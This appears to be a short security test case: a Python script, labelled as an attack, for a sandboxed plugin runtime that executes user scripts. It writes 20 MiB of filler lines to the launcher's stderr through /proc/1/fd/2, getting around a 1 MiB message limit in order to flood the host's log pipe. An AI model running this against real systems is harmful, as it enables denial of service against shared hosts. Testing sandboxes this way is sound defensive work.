# Attack: the launcher's stderr (go-plugin log pipe to the host) is reachable via /proc/1/fd/2; max_messages
# (1 MiB here) does not apply to it. Write 20 MiB of plain lines (not forged levels: just volume).
import os
fd = os.open('/proc/1/fd/2', os.O_WRONLY)
line = b'x' * 1023 + b'\n'
for _ in range(20 * 1024):
    os.write(fd, line)
OutputDataSet = InputDataSet
